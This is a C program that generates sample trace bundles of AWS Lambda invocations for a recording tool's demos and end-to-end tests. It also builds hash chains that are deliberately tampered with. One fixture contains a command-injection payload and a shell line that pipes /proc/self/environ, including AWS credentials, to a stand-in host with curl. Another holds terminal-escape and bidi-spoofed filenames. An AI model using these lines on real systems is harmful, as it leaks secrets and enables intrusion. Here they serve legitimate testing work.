/* Generates the sample bundles in samples/bundles/ (see its README): small, realistic and
 * deterministic (fixed timestamps, ids and digests), so newcomers can run `runtrail show` and
 * `runtrail verify` at once and the e2e tests can compare exact output. Usage:
 *     gen_samples OUTDIR
 * writes api-gateway.rtb, error.rtb, exfiltration.rtb, hostile-strings.rtb and a chain of four
 * bundles from one sandbox under OUTDIR/chain/ in the store's key layout (rt_store_key).
 *     gen_samples --tampered OUTDIR
 * writes broken chains for tests/e2e/show_verify.sh: modified/, fork/, reorder/. */
#include "formats/bundle.h"
#include "formats/digest.h"
#include "store/store.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>

#define START_NS 1764152100000000000LL /* 2025-11-26T10:15:00Z */
#define MS 1000000LL
#define US 1000LL

static struct rt_writer *w;
static int64_t now_ns;

static struct rt_str S(const char *s) {
    return (struct rt_str){s, s ? strlen(s) : 0};
}

static void
ev(int64_t ts, int pid, unsigned op, int64_t result, uint64_t dur, uint32_t flags, const char *s0,
   const char *s1, const char *s2, int64_t n0, int64_t n1, int64_t n2, int64_t n3)
{
    struct rt_event e = {
        ts, dur, pid, pid, (uint16_t)op, flags, result, {S(s0), S(s1), S(s2)}, {n0, n1, n2, n3}};
    if (rt_writer_add_event(w, &e)) {
        fprintf(stderr, "gen_samples: add_event failed\n");
        exit(1);
    }
    now_ns = ts;
}

static void argv_ev(int64_t ts, int pid, unsigned op, const char *path, const char *argv_joined,
                    size_t argv_len, int64_t n0)
{
    struct rt_event e = {ts,           40 * US, pid, pid,
                         (uint16_t)op, 0,       0,   {S(path), {argv_joined, argv_len}, {NULL, 0}},
                         {n0, 0, 0, 0}};
    if (op == RT_OP_EXEC && !strncmp(path, "/tmp/", 5))
        e.flags |= RT_EF_EXEC_TMP;
    rt_writer_add_event(w, &e);
}

static void env(const char *name, const char *value, bool clear, const char *key)
{
    struct rt_env_var v = {(char *)name, {0}, clear ? (char *)value : NULL};
    rt_hmac_sha256(key, strlen(key), value, strlen(value), v.hash);
    rt_writer_add_env(w, &v);
}

static void payload(char which, const char *data, const char *ctype, const char *etype)
{
    struct rt_payload p = {true,         RT_PAYLOAD_FULL, strlen(data), {0}, (uint8_t *)data,
                           strlen(data), (char *)ctype,   (char *)etype};
    rt_sha256(data, strlen(data), p.sha256);
    rt_writer_set_payload(w, which, &p);
}

static void logline(int64_t ts, int stream, const char *text)
{
    rt_writer_add_log(w, ts, stream, text, strlen(text));
}

static void seal(const char *dir, const char *name, uint8_t digest[RT_DIGEST_LEN])
{
    uint8_t *out;
    size_t len;
    char path[4096];
    if (rt_writer_finish(w, 0, &out, &len, digest)) {
        fprintf(stderr, "gen_samples: finish failed\n");
        exit(1);
    }
    rt_writer_free(w);
    w = NULL;
    snprintf(path, sizeof path, "%s/%s", dir, name);
    for (char *p = path + strlen(dir) + 1; (p = strchr(p, '/')); p++) {
        *p = '\0';
        mkdir(path, 0755);
        *p = '/';
    }
    FILE *f = fopen(path, "wb");
    if (!f || fwrite(out, 1, len, f) != len || fclose(f)) {
        fprintf(stderr, "gen_samples: %s: %s\n", path, strerror(errno));
        exit(1);
    }
    free(out);
    printf("%s (%zu bytes)\n", path, len);
}

static void base_meta(struct rt_meta *m, const char *fn, const char *req, const char *sandbox,
                      int64_t start, uint64_t dur_ms)
{
    static char arn[256];
    memset(m, 0, sizeof *m);
    snprintf(arn, sizeof arn, "arn:aws:lambda:eu-west-1:123456789012:function:%s", fn);
    m->function = (char *)fn;
    m->function_version = "7";
    m->function_arn = arn;
    m->region = "eu-west-1";
    m->runtime = "AWS_Lambda_nodejs20.x";
    m->handler = "index.handler";
    m->request_id = (char *)req;
    m->trace_id = "Root=1-6746a0e4-3c1d2b0a9f8e7d6c5b4a3921;Parent=53995c3f42cd8ad8;Sampled=1";
    m->sandbox_id = (char *)sandbox;
    m->recorder_version = "0.1.0";
    m->memory_mb = 512;
    m->start_wall_ns = start;
    m->duration_ns = dur_ms * (uint64_t)MS;
    m->end_wall_ns = start + (int64_t)m->duration_ns;
    m->deadline_wall_ns = start + 3000 * MS;
    m->status = RT_STATUS_OK;
    m->coverage = RT_COV_PRELOAD | RT_COV_PROXY;
}

static void common_env(const char *key)
{
    env("AWS_REGION", "eu-west-1", true, key);
    env("AWS_LAMBDA_FUNCTION_MEMORY_SIZE", "512", true, key);
    env("AWS_ACCESS_KEY_ID", "ASIAEXAMPLEEXAMPLE01", false, key);
    env("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", false, key);
    env("AWS_SESSION_TOKEN", "IQoJb3JpZ2luX2VjEXAMPLETOKEN", false, key);
    env("TABLE_NAME", "orders", true, key);
}

static void common_code(void)
{
    struct rt_code c = {{0}, {0}, 14, 48213, "/var/task"};
    rt_sha256("orders-api code v7", 18, c.task_root);
    rt_sha256("layers: runtrail-0.1.0", 22, c.layers);
    rt_writer_set_code(w, &c);
}

static void headers(const char *req)
{
    rt_writer_add_header(w, "Lambda-Runtime-Aws-Request-Id", req);
    rt_writer_add_header(w, "Lambda-Runtime-Deadline-Ms", "1764152103000");
    rt_writer_add_header(w, "Lambda-Runtime-Invoked-Function-Arn",
                         "arn:aws:lambda:eu-west-1:123456789012:function:orders-api");
}

/* A normal API Gateway request: read config, resolve and call DynamoDB over TLS, respond. */
static void api_invocation(const char *req, int64_t start, int pid, const char *order)
{
    int64_t t = 0;
    ev(t, pid, RT_OP_MARK, 0, 0, 0, req, "invoke", NULL, RT_MARK_INVOKE_START, 0, 0, 0);
    ev(t += 180 * US, pid, RT_OP_OPEN, 21, 12 * US, 0, "/var/task/config.json", NULL, NULL,
       AT_FDCWD, O_RDONLY | O_CLOEXEC, 0, 0);
    ev(t += 95 * US, pid, RT_OP_OPEN, -ENOENT, 6 * US, 0, "/tmp/orders-cache.json", NULL, NULL,
       AT_FDCWD, O_RDONLY | O_CLOEXEC, 0, 0);
    ev(t += 40 * US, pid, RT_OP_OPEN, 22, 9 * US, RT_EF_CREATE, "/tmp/orders-cache.json", NULL,
       NULL, AT_FDCWD, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644, 0);
    ev(t += 310 * US, pid, RT_OP_DNS, 0, 2100 * US, 0, "dynamodb.eu-west-1.amazonaws.com",
       "52.94.25.104", NULL, 0, 0, 0, 0);
    ev(t += 2200 * US, pid, RT_OP_SOCKET, 23, 5 * US, 0, NULL, NULL, NULL, AF_INET,
       SOCK_STREAM | SOCK_CLOEXEC, 6, 0);
    ev(t += 20 * US, pid, RT_OP_CONNECT, -EINPROGRESS, 30 * US, 0, "52.94.25.104:443", NULL, NULL,
       23, 0, 0, 0);
    ev(t += 14 * MS, pid, RT_OP_OUTBOUND, 0, 13900 * US, 0, "52.94.25.104:443",
       "dynamodb.eu-west-1.amazonaws.com", NULL, 1874, 5320, RT_PROTO_TLS, 23);
    (void)order;
    ev(t += 600 * US, pid, RT_OP_MARK, 0, 0, 0, req, "response", NULL, RT_MARK_RESPONSE, 0, 0, 0);
    (void)start;
}

static void gen_api(const char *dir)
{
    struct rt_meta m;
    const char *req = "3f1c9a52-8d1e-4c7b-9a40-5b2f0e6d7a11";
    w = rt_writer_new(NULL);
    base_meta(&m, "orders-api", req, "sbx-5f0c2a7e91b34d68", START_NS, 19);
    m.cold_start = true;
    m.caller = "arn:aws:sts::123456789012:assumed-role/frontend/web-7";
    rt_writer_set_meta(w, &m);
    common_code();
    common_env("sbx-5f0c2a7e91b34d68");
    headers(req);
    payload('E',
            "{\"resource\":\"/orders/{id}\",\"path\":\"/orders/1042\",\"httpMethod\":\"GET\","
            "\"headers\":{\"Host\":\"api.example.com\",\"User-Agent\":\"Mozilla/5.0\"},"
            "\"requestContext\":{\"requestId\":\"c6af9ac6-7b61-11e6-9a41-93e8deadbeef\","
            "\"identity\":{\"sourceIp\":\"198.51.100.23\"}}}",
            "application/json", NULL);
    payload('R',
            "{\"statusCode\":200,\"body\":\"{\\\"id\\\":1042,\\\"status\\\":\\\"shipped\\\"}\"}",
            "application/json", NULL);
    int pid = 8;
    int64_t t = -420 * MS; /* init phase */
    ev(t, pid, RT_OP_MARK, 0, 0, 0, NULL, "init", NULL, RT_MARK_INIT, 0, 0, 0);
    ev(t += 3 * MS, pid, RT_OP_OPEN, 19, 15 * US, 0, "/var/task/index.js", NULL, NULL, AT_FDCWD,
       O_RDONLY | O_CLOEXEC, 0, 0);
    ev(t += 2 * MS, pid, RT_OP_DLOPEN, 0, 800 * US, 0,
       "/var/task/node_modules/@aws-sdk/crc64-nvme-crt/build/crc64.node", NULL, NULL, 0x101, 0, 0,
       0);
    api_invocation(req, START_NS, pid, "1042");
    logline(1 * MS, 1, "INFO fetching order 1042");
    logline(18 * MS, 1, "INFO order 1042 status shipped");
    seal(dir, "api-gateway.rtb", NULL);
}

static void gen_error(const char *dir)
{
    struct rt_meta m;
    const char *req = "9b2d4e61-0c3a-4f58-8e17-2a6c9d0b3f44";
    w = rt_writer_new(NULL);
    base_meta(&m, "orders-api", req, "sbx-a41e7c03d5f29b86", START_NS + 60000 * MS, 7);
    m.status = RT_STATUS_ERROR;
    m.error_type = "TypeError";
    rt_writer_set_meta(w, &m);
    common_code();
    common_env("sbx-a41e7c03d5f29b86");
    headers(req);
    payload('E', "{\"path\":\"/orders/abc\",\"httpMethod\":\"GET\"}", "application/json", NULL);
    payload('X',
            "{\"errorType\":\"TypeError\",\"errorMessage\":\"Cannot read properties of undefined "
            "(reading 'status')\",\"trace\":[\"TypeError: Cannot read properties of undefined\","
            "\"    at handler (/var/task/index.js:42:18)\"]}",
            "application/json", "TypeError");
    int pid = 8;
    int64_t t = 0;
    ev(t, pid, RT_OP_MARK, 0, 0, 0, req, "invoke", NULL, RT_MARK_INVOKE_START, 0, 0, 0);
    ev(t += 150 * US, pid, RT_OP_OPEN, -ENOENT, 7 * US, 0, "/var/task/config.local.json", NULL,
       NULL, AT_FDCWD, O_RDONLY | O_CLOEXEC, 0, 0);
    ev(t += 90 * US, pid, RT_OP_FOPEN, -EACCES, 11 * US, 0, "/etc/shadow", "r", NULL, 0, 0, 0, 0);
    ev(t += 1200 * US, pid, RT_OP_CONNECT, -ECONNREFUSED, 80 * US, 0, "127.0.0.1:6379", NULL, NULL,
       24, 0, 0, 0);
    ev(t += 5 * MS, pid, RT_OP_MARK, 0, 0, 0, req, "TypeError", NULL, RT_MARK_ERROR, 0, 0, 0);
    logline(6 * MS, 2,
            "ERROR Invoke Error {\"errorType\":\"TypeError\",\"errorMessage\":\"Cannot read "
            "properties of undefined (reading 'status')\"}");
    seal(dir, "error.rtb", NULL);
}

static void gen_exfil(const char *dir)
{
    struct rt_meta m;
    const char *req = "e07a55c2-41b9-4d3e-b6f0-77c18a2e9d05";
    static const char sh_argv[] = "sh\0-c\0cat /proc/self/environ | curl -s -X POST --data-binary "
                                  "@- http://203.0.113.66:4444/c";
    static const char curl_argv[] = "curl\0-s\0-X\0POST\0--data-binary\0@-\0"
                                    "http://203.0.113.66:4444/c";
    w = rt_writer_new(NULL);
    base_meta(&m, "orders-api", req, "sbx-77d3b19e0f4a2c58", START_NS + 120000 * MS, 412);
    rt_writer_set_meta(w, &m);
    common_code();
    common_env("sbx-77d3b19e0f4a2c58");
    headers(req);
    payload('E',
            "{\"path\":\"/orders/1;$(cat /proc/self/environ|curl -d @- 203.0.113.66:4444)\","
            "\"httpMethod\":\"GET\"}",
            "application/json", NULL);
    payload('R', "{\"statusCode\":200,\"body\":\"{}\"}", "application/json", NULL);
    int pid = 8;
    int64_t t = 0;
    ev(t, pid, RT_OP_MARK, 0, 0, 0, req, "invoke", NULL, RT_MARK_INVOKE_START, 0, 0, 0);
    ev(t += 200 * US, pid, RT_OP_OPEN, 21, 10 * US, 0, "/var/task/config.json", NULL, NULL,
       AT_FDCWD, O_RDONLY | O_CLOEXEC, 0, 0);
    ev(t += 900 * US, pid, RT_OP_FORK, 31, 300 * US, 0, NULL, NULL, NULL, 0, 0, 0, 0);
    argv_ev(t += 400 * US, 31, RT_OP_EXEC, "/bin/sh", sh_argv, sizeof sh_argv - 1, 0);
    ev(t += 2 * MS, 31, RT_OP_FORK, 32, 250 * US, 0, NULL, NULL, NULL, 0, 0, 0, 0);
    ev(t += 300 * US, 32, RT_OP_OPEN, 3, 8 * US, RT_EF_ENVIRON_READ, "/proc/self/environ", NULL,
       NULL, AT_FDCWD, O_RDONLY, 0, 0);
    ev(t += 100 * US, 31, RT_OP_FORK, 33, 260 * US, 0, NULL, NULL, NULL, 0, 0, 0, 0);
    argv_ev(t += 500 * US, 33, RT_OP_EXEC, "/usr/bin/curl", curl_argv, sizeof curl_argv - 1, 0);
    ev(t += 4 * MS, 33, RT_OP_SOCKET, 5, 6 * US, 0, NULL, NULL, NULL, AF_INET, SOCK_STREAM, 6, 0);
    ev(t += 30 * US, 33, RT_OP_CONNECT, 0, 180 * MS, 0, "203.0.113.66:4444", NULL, NULL, 5, 0, 0,
       0);
    ev(t += 181 * MS, 33, RT_OP_SENDTO, 2214, 40 * US, 0, "203.0.113.66:4444", NULL, NULL, 5, 2214,
       0, 0);
    ev(t += 200 * MS, 33, RT_OP_OUTBOUND, 0, 381 * MS, 0, "203.0.113.66:4444", NULL,
       "POST /c HTTP/1.1\nHost: 203.0.113.66:4444\nHTTP/1.1 204 No Content", 2377, 112,
       RT_PROTO_HTTP, 5);
    ev(t += 300 * US, 33, RT_OP_PROC_EXIT, 0, 0, 0, NULL, NULL, NULL, 0, 0, 0, 0);
    ev(t += 200 * US, 31, RT_OP_PROC_EXIT, 0, 0, 0, NULL, NULL, NULL, 0, 0, 0, 0);
    ev(t += 20 * MS, pid, RT_OP_MARK, 0, 0, 0, req, "response", NULL, RT_MARK_RESPONSE, 0, 0, 0);
    logline(1 * MS, 1, "INFO fetching order 1;$(cat /proc/self/environ|curl -d @- ...)");
    seal(dir, "exfiltration.rtb", NULL);
}

/* Captured strings with terminal escape sequences, invalid UTF-8 and a bidi override. */
static void gen_hostile(const char *dir)
{
    struct rt_meta m;
    const char *req = "0d4e2b71-9a6c-4e3f-8b25-c1f07e9a6d38";
    w = rt_writer_new(NULL);
    base_meta(&m, "orders-api", req, "sbx-c2e8a1f46b7d3059", START_NS + 180000 * MS, 3);
    rt_writer_set_meta(w, &m);
    payload('E', "{\"name\":\"\x1b]0;pwned\x07\x1b[2J\"}", "application/json", NULL);
    int64_t t = 0;
    ev(t, 8, RT_OP_MARK, 0, 0, 0, req, "invoke", NULL, RT_MARK_INVOKE_START, 0, 0, 0);
    ev(t += 100 * US, 8, RT_OP_OPEN, -ENOENT, 5 * US, 0, "/tmp/\x1b[31mred\x1b[0m.txt", NULL, NULL,
       AT_FDCWD, O_RDONLY, 0, 0);
    ev(t += 100 * US, 8, RT_OP_OPEN, -ENOENT, 5 * US, 0, "/tmp/bad-utf8-\xff\xfe-\xc3(.txt", NULL,
       NULL, AT_FDCWD, O_RDONLY, 0, 0);
    ev(t += 100 * US, 8, RT_OP_RENAME, 0, 9 * US, 0, "/tmp/invoice\xe2\x80\xaetxt.exe",
       "/tmp/back\\slash\n\"quoted\"", NULL, 0, 0, 0, 0);
    logline(t += 100 * US, 2, "\x1b[1;31mERROR\x1b[0m line one\r\nline two\x1b[?1049h");
    seal(dir, "hostile-strings.rtb", NULL);
}

/* One invocation of the chain's sandbox. prev NULL: the first of the sandbox. variant != 0
 * changes the input (a tampered or forked copy). The bundle's digest goes to digest. */
static void chain_bundle(const char *dir, const char *name, uint64_t seq, const uint8_t *prev,
                         int variant, uint8_t digest[RT_DIGEST_LEN])
{
    static const char *const reqs[4] = {
        "51c2d8e0-1a2b-4c3d-8e4f-000000000001", "51c2d8e0-1a2b-4c3d-8e4f-000000000002",
        "51c2d8e0-1a2b-4c3d-8e4f-000000000003", "51c2d8e0-1a2b-4c3d-8e4f-000000000004"};
    struct rt_meta m;
    int64_t start = START_NS + 300000 * MS + (int64_t)seq * 1500 * MS;
    w = rt_writer_new(NULL);
    base_meta(&m, "orders-api", reqs[seq % 4], "sbx-1d9e4b7a22c05f31", start, 17 + seq);
    m.cold_start = seq == 0;
    m.seq = seq;
    m.has_prev = prev != NULL;
    if (prev)
        memcpy(m.prev_digest, prev, RT_DIGEST_LEN);
    rt_writer_set_meta(w, &m);
    headers(reqs[seq % 4]);
    char body[128];
    snprintf(body, sizeof body, "{\"path\":\"/orders/%d\",\"httpMethod\":\"GET\"}",
             variant ? 6666 : 2000 + (int)seq);
    payload('E', body, "application/json", NULL);
    payload('R', "{\"statusCode\":200}", "application/json", NULL);
    api_invocation(reqs[seq % 4], start, 8, "2000");
    char key[512], path[600];
    if (!name) {
        if (rt_store_key(&m, key, sizeof key)) {
            fprintf(stderr, "gen_samples: no store key\n");
            exit(1);
        }
        snprintf(path, sizeof path, "chain/%s", key);
        name = path;
    }
    seal(dir, name, digest);
}

/* Four invocations in one sandbox: seq 0..3, each linking the previous bundle's digest. */
static void gen_chain(const char *dir)
{
    uint8_t d[4][RT_DIGEST_LEN];
    for (uint64_t i = 0; i < 4; i++)
        chain_bundle(dir, NULL, i, i ? d[i - 1] : NULL, 0, d[i]);
}

/* Broken chains for the tests: modified/ (seq 2 replaced by a re-sealed variant), fork/ (two
 * different seq 1), reorder/ (seq 2 links to seq 0). */
static void gen_tampered(const char *dir)
{
    uint8_t d[4][RT_DIGEST_LEN], x[RT_DIGEST_LEN];
    chain_bundle(dir, "modified/seq0.rtb", 0, NULL, 0, d[0]);
    chain_bundle(dir, "modified/seq1.rtb", 1, d[0], 0, d[1]);
    chain_bundle(dir, "modified/seq2.rtb", 2, d[1], 0, d[2]);
    chain_bundle(dir, "modified/seq3.rtb", 3, d[2], 0, d[3]);
    chain_bundle(dir, "modified/seq2.rtb", 2, d[1], 1, x); /* overwrites the original */
    chain_bundle(dir, "fork/seq0.rtb", 0, NULL, 0, d[0]);
    chain_bundle(dir, "fork/seq1-a.rtb", 1, d[0], 0, d[1]);
    chain_bundle(dir, "fork/seq1-b.rtb", 1, d[0], 1, x);
    chain_bundle(dir, "fork/seq2.rtb", 2, d[1], 0, d[2]);
    chain_bundle(dir, "reorder/seq0.rtb", 0, NULL, 0, d[0]);
    chain_bundle(dir, "reorder/seq1.rtb", 1, d[0], 0, d[1]);
    chain_bundle(dir, "reorder/seq2.rtb", 2, d[0], 0, d[2]);
}

int main(int argc, char **argv)
{
    if (argc == 3 && !strcmp(argv[1], "--tampered")) {
        mkdir(argv[2], 0755);
        gen_tampered(argv[2]);
        return 0;
    }
    if (argc != 2) {
        fprintf(stderr, "usage: gen_samples [--tampered] OUTDIR\n");
        return 2;
    }
    mkdir(argv[1], 0755);
    gen_api(argv[1]);
    gen_error(argv[1]);
    gen_exfil(argv[1]);
    gen_hostile(argv[1]);
    gen_chain(argv[1]);
    return 0;
}
